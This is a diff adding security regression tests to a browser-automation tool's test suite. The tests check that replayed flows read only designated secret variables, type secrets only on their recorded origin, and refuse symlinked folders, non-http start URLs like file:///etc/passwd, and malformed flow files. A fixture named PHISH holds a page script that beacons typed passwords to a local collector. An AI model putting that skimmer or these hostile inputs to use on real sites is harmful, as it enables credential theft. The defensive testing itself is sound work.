@@ -9,6 +9,7 @@ import json
 import os
 import re
 import subprocess
+import time
 import sys
 import xml.etree.ElementTree as ET
 
@@ -326,3 +327,158 @@ def test_an_act_sequence_is_part_of_the_journey(world):
     flow = json.loads((project / ".reticle" / "flows" / "sequence.json").read_text())
     assert [s.get("target") for s in flow["steps"]] == [{"label": "Username"}, {"label": "Password"}], flow
     assert PASSWORD not in json.dumps(flow) and saved["secrets"] == [SECRET_ENV], flow
+
+
+# -- issue 19: a flow cannot make the replaying process type its environment into any page ---------
+
+PHISH = """<!doctype html><title>sign in again</title>
+<label>Password <input id="pw" type="text"></label>
+<script>document.getElementById('pw').addEventListener('input', function (e) {
+  navigator.sendBeacon('/got', e.target.value); });</script>"""
+HOP = """<!doctype html><title>hop</title><a href="%(daemon)s/again">Continue</a>"""
+FORM = """<!doctype html><title>form</title><label>Password <input id="pw" type="text"></label>"""
+
+
+class _Got:
+    def __init__(self):
+        self.values = []
+
+
+def _phish_servers():
+    import tornado.web
+
+    from _harness import TemplatePage
+    got = _Got()
+
+    class Got(tornado.web.RequestHandler):
+        def post(self):
+            got.values.append(self.request.body.decode("utf-8", "replace"))
+
+    evil = AppServer([(r"/got", Got), (r"/again", TemplatePage, {"template": PHISH, "daemon": ""})])
+    good = AppServer([(r"/form", TemplatePage, {"template": FORM, "daemon": ""}),
+                      (r"/.*", TemplatePage, {"template": HOP, "daemon": evil.url})])
+    return good, evil, got
+
+
+def test_a_flow_reads_only_reticle_secret_variables(world):
+    mcp = world["mcp"]
+    for name in ("HOME", "GITHUB_TOKEN", "RETICLE_TOKEN", "reticle_secret_x"):
+        data, is_error = mcp.call("reticle_flow_replay", {"flow": {"format": 1, "name": "env", "steps": [
+            {"action": "fill", "target": {"label": "Username"}, "args": {"value": "a ${%s} b" % name}}]}})
+        assert is_error and data.get("setup") is True and data.get("variable") == name, data
+        assert "only RETICLE_SECRET_" in data["error"], data
+
+
+def test_a_secret_is_typed_only_into_the_origin_it_was_recorded_on(world):
+    mcp = world["mcp"]
+    good, evil, got = _phish_servers()
+    try:
+        sid = mcp.ok("reticle_open", {"url": good.url + "/"})["sessionId"]
+        # the flow starts on the app, then a click takes it to another origin before the secret is typed
+        flow = {"format": 1, "name": "hop", "startUrl": good.url + "/", "steps": [
+            {"action": "click", "target": {"role": "link", "name": "Continue"}},
+            {"action": "fill", "target": {"label": "Password"}, "args": {"value": "${%s}" % SECRET_ENV},
+             "secret": SECRET_ENV}]}
+        data, is_error = mcp.call("reticle_flow_replay", {"flow": flow, "sessionId": sid}, timeout=60)
+        assert is_error and data.get("setup") is True, data
+        assert "only into the origin" in data["error"] and data.get("allowed") == good.url, data
+        time.sleep(0.3)
+        assert PASSWORD not in "".join(got.values) and not got.values, got.values
+        # the same step on the recorded origin types it
+        flow = dict(flow, startUrl=good.url + "/form", steps=flow["steps"][1:])
+        out = mcp.ok("reticle_flow_replay", {"flow": flow, "sessionId": sid}, timeout=60)
+        assert out["verified"] == "yes", out
+    finally:
+        mcp.call("reticle_close", {})
+        good.close()
+        evil.close()
+
+
+def test_a_replayed_secret_is_saved_again_as_its_variable(world):
+    mcp, project = world["mcp"], world["project"]
+    sid = mcp.ok("reticle_open", {"url": world["app"].url + "/login"})["sessionId"]
+    try:
+        flow = {"format": 1, "name": "user-is-secret", "startUrl": world["app"].url + "/login", "steps": [
+            {"action": "fill", "target": {"label": "Username"}, "args": {"value": "${%s}" % SECRET_ENV},
+             "secret": SECRET_ENV},
+            {"assert": {"kind": "text", "contains": "Log in"}}]}
+        out = mcp.ok("reticle_flow_replay", {"flow": flow, "sessionId": sid}, timeout=60)
+        assert out["verified"] == "yes", out
+        saved = mcp.ok("reticle_flow_save", {"name": "again", "sessionId": sid, "since": 0})
+        text = (project / ".reticle" / "flows" / "again.json").read_text()
+        assert PASSWORD not in text and "${%s}" % SECRET_ENV in text, text
+        assert saved["secrets"] == [SECRET_ENV], saved
+    finally:
+        mcp.call("reticle_close", {})
+
+
+def test_a_flow_name_with_a_trailing_newline_is_refused(world):
+    error = _refused(world["mcp"], "reticle_flow_save", {"name": "ok\n", "steps": [
+        {"action": "click", "target": {"text": "Go"}}]})
+    assert "not a flow name" in error, error
+    assert not reticle_flow_files(world["project"], "ok\n")
+
+
+def reticle_flow_files(project, name):
+    folder = project / ".reticle" / "flows"
+    return [p for p in folder.iterdir() if p.name.startswith(name)] if folder.exists() else []
+
+
+def test_a_symlinked_flows_folder_is_never_written_through(world, tmp_path):
+    mcp, project = world["mcp"], world["project"]
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "victim.json").write_text('{"keep": true}')
+    folder = project / ".reticle" / "flows"
+    folder.mkdir(parents=True, exist_ok=True)
+    saved = project / ".reticle" / "flows-real"
+    folder.rename(saved)
+    try:
+        folder.symlink_to(outside)
+        error = _refused(mcp, "reticle_flow_save", {"name": "victim", "steps": [
+            {"action": "click", "target": {"text": "Go"}}]})
+        assert "symbolic link" in error, error
+        assert json.loads((outside / "victim.json").read_text()) == {"keep": True}
+        data, is_error = mcp.call("reticle_flow_replay", {"name": "victim"})
+        assert is_error and "symbolic link" in data["error"], data
+    finally:
+        folder.unlink()
+        saved.rename(folder)
+
+
+def test_a_fresh_replay_opens_http_pages_only(world):
+    mcp = world["mcp"]
+    sid = mcp.ok("reticle_open", {"url": world["app"].url + "/login"})["sessionId"]
+    try:
+        for start in ("file:///etc/passwd", "chrome://version", "data:text/html,<p>x", "view-source:http://a/"):
+            data, is_error = mcp.call("reticle_flow_replay", {"sessionId": sid, "fresh": True, "flow": {
+                "format": 1, "name": "bad-start", "startUrl": start,
+                "steps": [{"assert": {"kind": "text", "contains": "x"}}]}})
+            assert is_error and "http: and https: pages only" in data["error"], (start, data)
+    finally:
+        mcp.call("reticle_close", {})
+
+
+def test_hostile_flow_files_are_setup_errors_not_crashes(tmp_path):
+    import reticle
+
+    folder = tmp_path / ".reticle" / "flows"
+    folder.mkdir(parents=True)
+    (folder / "deep.json").write_text('{"format": 1, "name": "deep", "steps": ' + "[" * 200000 + "]" * 200000 + "}")
+    (folder / "huge.json").write_text('{"format": 1, "name": "huge", "note": "' + "x" * (2 << 20) + '", "steps": []}')
+    (folder / "surrogate.json").write_text('{"format": 1, "name": "bad\\ud800", "steps": [{"assert": '
+                                           '{"kind": "text", "contains": "x"}}]}')
+    (folder / "good.json").write_text(json.dumps({"format": 1, "name": "good", "startUrl": "http://x/",
+                                                  "steps": [{"assert": {"kind": "text", "contains": "x"}}]}))
+    listed = {f["name"]: f for f in reticle._list_flows(str(tmp_path))}
+    assert listed["good"]["steps"] == 1 and "problem" not in listed["good"]
+    assert all("problem" in listed[n] for n in ("deep", "huge", "surrogate")), listed
+    flows, errors = reticle._verify_load([str(folder)], str(tmp_path))  # a folder of flows works
+    assert [f["name"] for f in flows] == ["good"]
+    assert sorted(e["name"] for e in errors) == ["deep", "huge", "surrogate"], errors
+    # the reports of such results are well-formed XML and encodable
+    results = errors + [{"name": "good", "verified": "no", "ms": 1, "failedStep": 0, "because": "x",
+                         "steps": [{"index": 0, "step": "assert text \ufffe\uffff\x01", "verified": "no",
+                                    "because": "page text \ufffe", "ms": 1}]}]
+    ET.fromstring(reticle._junit_xml(results).encode("utf-8"))
+    reticle._html_report(results).encode("utf-8")
